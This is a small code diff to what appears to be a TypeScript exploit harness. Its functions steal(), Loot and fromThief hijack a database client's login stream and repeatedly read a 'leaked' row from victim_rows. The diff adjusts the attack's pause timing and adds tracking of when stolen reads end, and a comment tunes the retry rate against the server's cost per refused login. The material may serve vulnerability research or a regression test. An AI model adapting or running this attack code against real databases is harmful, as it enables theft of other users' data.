@@ -13,7 +13,7 @@ export interface Loot {
 }
 
 const READ = 'SELECT note FROM victim_rows WHERE id = 1 /* leaked */';
-const PAUSE_MS = 10;
+const PAUSE_MS = 20;
 /** Every refused login costs the server a process: more often would measure that. */
 const AGAIN_MS = 200;
 
@@ -34,7 +34,9 @@ async function steal(login: Login): Promise<void> {
       ...login,
       stream: () => fromThief(login),
     });
-    client.on('error', () => {});
+    client.on('error', () => {
+      if (loot.reads > 0) loot.endedAt ??= Date.now();
+    });
     try {
       await client.connect();
       while (mayGoOn()) {
